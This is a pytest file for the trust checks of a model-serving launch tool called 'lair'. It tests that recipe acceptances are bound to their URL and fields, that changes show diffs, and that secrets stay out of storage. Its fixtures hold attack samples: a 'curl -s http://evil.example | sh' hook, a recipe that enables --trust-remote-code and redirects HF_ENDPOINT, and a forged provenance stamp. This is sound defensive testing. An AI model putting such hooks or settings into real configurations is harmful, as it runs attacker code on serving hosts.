"""Acceptances are bound to their source and to every launch field: recipes served by a real local
HTTP server, planned through the real ``lair plan`` (its ``main``, and once as a process with no
terminal). An acceptance of URL A never covers URL B, a changed recipe at the same URL shows the
diff against what was accepted, and secret values never reach the trust store."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from lair.cli import main
from lair.errors import TrustError
from lair.plan import Acceptance, Target, fingerprint, plan
from lair.plan.trust import requests
from lair.recipe import Recipe, load_text
from lair.testing.folder_server import serve_folder

GOOD = """engine = "vllm"
docker_image = "vllm/vllm-openai:v0.9.0"
model = "org/good"
[env]
VLLM_LOGGING_LEVEL = "INFO"
"""
# what the attack of issue 18 served at URL B: another model repo, a download endpoint of its own
# and a flag that runs the repo's code
EVIL = """engine = "vllm"
docker_image = "vllm/vllm-openai:v0.9.0"
model = "evil/repo"
args = ["--trust-remote-code"]
[env]
VLLM_LOGGING_LEVEL = "INFO"
HF_ENDPOINT = "http://127.0.0.1:9"
"""
ONE = [Target(name="a", address="10.0.0.1", rank=0)]


@pytest.fixture
def site(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    root = tmp_path / "site"
    root.mkdir()
    with serve_folder(root) as url:
        yield root, url


def _plan(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, object], str]:
    rc = main(["plan", *args, "--json"])
    cap = capsys.readouterr()
    return rc, json.loads(cap.out), cap.err


def _error(doc: dict[str, object]) -> dict[str, object]:
    error = doc["error"]
    assert isinstance(error, dict) and error["code"] == "trust"
    return error


def test_an_acceptance_of_url_a_covers_neither_a_replay_nor_a_changed_recipe_at_url_b(
    site: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    root, base = site
    (root / "a.toml").write_text(GOOD)
    (root / "replay.toml").write_text(GOOD)  # the very same bytes at another address
    (root / "b.toml").write_text(EVIL)
    url_a, replay, url_b = f"{base}/a.toml", f"{base}/replay.toml", f"{base}/b.toml"
    assert _plan(capsys, url_a, "--accept")[0] == 0
    rc, doc, err = _plan(capsys, url_a)
    assert rc == 0 and f"untrusted recipe from {url_a}, accepted" in err  # remembered for A

    rc, doc, _ = _plan(capsys, replay)
    error = _error(doc)
    assert rc == 1 and f"this recipe from {replay} is not trusted" in str(error["message"])
    assert url_a not in str(error["message"])

    rc, doc, _ = _plan(capsys, url_b)
    error = _error(doc)
    message = str(error["message"])
    assert rc == 1 and f"this recipe from {url_b} is not trusted" in message and url_a not in message
    for line in (
        "model evil/repo (the engine downloads and loads it)",
        "env HF_ENDPOINT=http://127.0.0.1:9 (changes where model files and code are downloaded from)",
        "engine flag --trust-remote-code (runs Python code from the model repo evil/repo)",
    ):
        assert line in error["risks"] and f"  {line}" in message  # type: ignore[operator]
    assert error["diff"] == []  # B was never accepted: nothing to compare with


def test_without_a_terminal_the_cli_refuses_url_b_and_names_it(
    site: tuple[Path, str], tmp_path: Path
) -> None:
    root, base = site
    (root / "a.toml").write_text(GOOD)
    (root / "b.toml").write_text(EVIL)
    cli = [sys.executable, "-m", "lair", "plan"]
    env = {**os.environ, "NO_COLOR": "1"}
    ok = subprocess.run([*cli, f"{base}/a.toml", "--accept"], capture_output=True, text=True, env=env)
    assert ok.returncode == 0, ok.stderr
    res = subprocess.run(
        [*cli, f"{base}/b.toml"], capture_output=True, text=True, env=env, stdin=subprocess.DEVNULL
    )
    assert res.returncode == 1 and res.stdout == ""
    assert f"this recipe from {base}/b.toml is not trusted" in res.stderr
    assert "env HF_ENDPOINT=http://127.0.0.1:9" in res.stderr and "--trust-remote-code" in res.stderr
    assert "[y/N]" not in res.stderr and f"{base}/a.toml" not in res.stderr


def test_a_changed_recipe_at_the_same_url_shows_every_changed_field(
    site: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    root, base = site
    url = f"{base}/r.toml"
    (root / "r.toml").write_text(GOOD.replace("[env]", 'before_serve = ["echo warm"]\n[env]'))
    assert _plan(capsys, url, "--accept")[0] == 0
    digest = "a" * 64
    hook = "echo warm; curl -s http://evil.example | sh"
    extra = f'port = 9000\nulimits = {{ nofile = "1024" }}\nbefore_serve = ["{hook}"]\n'
    changed = (
        GOOD.replace("v0.9.0", f"v0.9.0@sha256:{digest}")
        .replace("org/good", "org/other")
        .replace('"INFO"', '"DEBUG"')
        .replace("[env]", f"{extra}[env]")
    )
    (root / "r.toml").write_text(changed)
    rc, doc, _ = _plan(capsys, url)
    error = _error(doc)
    assert rc == 1
    assert error["diff"] == [  # by hand: every field that changed, old value then new, keys sorted
        "- before_serve: sh -c echo warm",
        f"+ before_serve: sh -c {hook}",
        "- env: VLLM_LOGGING_LEVEL=INFO",
        "+ env: VLLM_LOGGING_LEVEL=DEBUG",
        "- image: vllm/vllm-openai:v0.9.0",
        f"+ image: vllm/vllm-openai:v0.9.0@sha256:{digest}",
        "- model: org/good",
        "+ model: org/other",
        "+ options: port=9000",
        "+ ulimits: nofile=1024",
    ]
    message = str(error["message"])
    assert "changed since you accepted it on " in message and "  + model: org/other" in message
    assert f"this recipe from {url} is not trusted" in message
    assert _plan(capsys, url, "--accept")[0] == 0
    assert _plan(capsys, url)[0] == 0


def test_an_acceptance_of_another_source_does_not_count_in_the_plan_itself() -> None:
    r = load_text(GOOD)
    theirs = Acceptance(
        fingerprint=fingerprint(r), source="https://a.example/r", requests={}, accepted_at="t"
    )
    with pytest.raises(TrustError, match=r"from https://b\.example/r is not trusted"):
        plan(r, ONE, run_id="s1", trusted=False, acceptance=theirs, source="https://b.example/r")
    ok = plan(r, ONE, run_id="s2", trusted=False, acceptance=theirs, source="https://a.example/r")
    assert ok.run.trusted is False


# one changed value for every launch field (the keys must be exactly the launch fields: a new
# field of the recipe model fails here until it is covered)
NEW_VALUES: dict[str, object] = {
    "engine": "sglang",
    "runtime": "podman",
    "docker_image": "vllm/vllm-openai:v0.9.1",
    "model": "org/other",
    "name": "renamed",
    "served_model_name": "alias",
    "required_nodes": 2,
    "cluster": "lab",
    "tensor_parallel_size": 2,
    "pipeline_parallel_size": 2,
    "data_parallel_size": 2,
    "distributed_backend": "ray",
    "shm_size": "2g",
    "devices": ["/dev/dri/card0"],
    "gpus": "0,1",
    "privileged": True,
    "cap_add": ["SYS_NICE"],
    "ipc": "host",
    "pid": "host",
    "ulimits": {"nofile": "1024"},
    "memory_limit": "9g",
    "cpus": 4.0,
    "extra_mounts_manifest": "/tmp/mounts.txt",
    "entrypoint": ["python3", "-m", "x"],
    "args": ["--trust-remote-code"],
    "port": 9000,
    "host": "127.0.0.1",
    "health_path": "/ready",
    "ready_timeout_s": 60.0,
    "gpu_memory_utilization": 0.8,
    "kv_cache_dtype": "fp8",
    "max_model_len": 4096,
    "metrics_flags": False,
    "before_serve": [{"run": "echo hi"}],
    "after_stop": [{"run": "echo bye"}],
    "extra_mounts": [{"host": "/data", "container": "/data", "read_only": True}],
    "env": {"VLLM_LOGGING_LEVEL": "DEBUG"},
}


def test_every_launch_field_changes_the_fingerprint() -> None:
    launch = set(Recipe.model_fields) - {"meta", "placeholders", "schema_version"}
    assert set(NEW_VALUES) == launch
    base = load_text(GOOD)
    before = fingerprint(base)
    for name, value in NEW_VALUES.items():
        changed = Recipe.model_validate({**base.model_dump(exclude_unset=True), name: value})
        assert fingerprint(changed) != before, name
    hook = load_text(GOOD.replace("[env]", 'before_serve = [{ run = "x" }]\n[env]'))
    slow = load_text(GOOD.replace("[env]", 'before_serve = [{ run = "x", timeout_s = 5 }]\n[env]'))
    assert fingerprint(hook) != fingerprint(slow)  # a hook's timeout is part of its text
    assert requests(slow)["before_serve"] == ["sh -c x [timeout_s=5]"]
    meta = load_text(GOOD.replace("[env]", '[meta]\ntitle = "t"\n[env]'))
    assert fingerprint(meta) == before  # publication metadata runs nothing


SECRETS = """engine = "vllm"
docker_image = "vllm/vllm-openai:v0.9.0"
model = "org/good"
args = ["--api-key", "plain-arg-secret-1"]
[env]
HF_TOKEN = "{HF_TOKEN}"
OPENAI_API_KEY = "plain-env-secret-2"
[placeholders.HF_TOKEN]
type = "secret"
"""


def test_secret_values_never_reach_the_trust_store_yet_their_changes_ask_again(
    site: tuple[Path, str],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    _isolated_home: Path,
) -> None:
    root, base = site
    monkeypatch.setenv("HF_TOKEN", "hf_environment_secret_3")
    (root / "s.toml").write_text(SECRETS)
    url = f"{base}/s.toml"
    rc, _, err = _plan(capsys, url, "--accept")
    assert rc == 0, err
    stored = "".join(p.read_text() for p in (_isolated_home / "state" / "trust").rglob("*.json"))
    assert '"HF_TOKEN={HF_TOKEN}"' in stored  # the placeholder, not its value
    for secret in ("hf_environment_secret_3", "plain-env-secret-2", "plain-arg-secret-1"):
        assert secret not in stored and secret not in err
    (root / "s.toml").write_text(SECRETS.replace("plain-env-secret-2", "another-value"))
    rc, doc, _ = _plan(capsys, url)
    diff = _error(doc)["diff"]
    assert (
        rc == 1
        and isinstance(diff, list)
        and [d[:19] for d in diff]
        == [
            "- env: OPENAI_API_K",
            "+ env: OPENAI_API_K",
        ]
    )
    assert all("secret" not in d and "another-value" not in d for d in diff)


FORGED = GOOD.replace(
    "[env]",
    '[meta.source]\nregistry = "https://lair.example"\nslug = "good"\nrevision = 1\nsha256 = "'
    + "0" * 64
    + '"\n[env]',
)


def test_a_stamp_a_url_brings_is_replaced_by_the_url_itself(
    site: tuple[Path, str], capsys: pytest.CaptureFixture[str], _isolated_home: Path
) -> None:
    import tomllib

    root, base = site
    (root / "forged.toml").write_text(FORGED)  # claims to be a registry revision the user may trust
    url = f"{base}/forged.toml"
    rc, doc, _ = _plan(capsys, url)
    assert rc == 1 and f"this recipe from {url} is not trusted" in str(_error(doc)["message"])
    assert "lair.example" not in str(_error(doc)["message"])
    [fetched] = (_isolated_home / "state" / "fetched").glob("*.toml")
    stamp = tomllib.loads(fetched.read_text())["meta"]["source"]
    assert stamp["url"] == url and "registry" not in stamp


def test_a_local_file_with_a_broken_stamp_is_untrusted_and_its_error_located(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from lair.launch.trust_store import provenance

    f = tmp_path / "r.toml"
    f.write_text(GOOD + '[meta.source]\nslug = "x"\nsha256 = "nothex"\n')
    assert provenance(f) == "an unreadable [meta.source] stamp"
    assert main(["plan", str(f)]) == 1
    err = capsys.readouterr().err
    assert f"{f}:8:10: meta.source.sha256: " in err and "Traceback" not in err
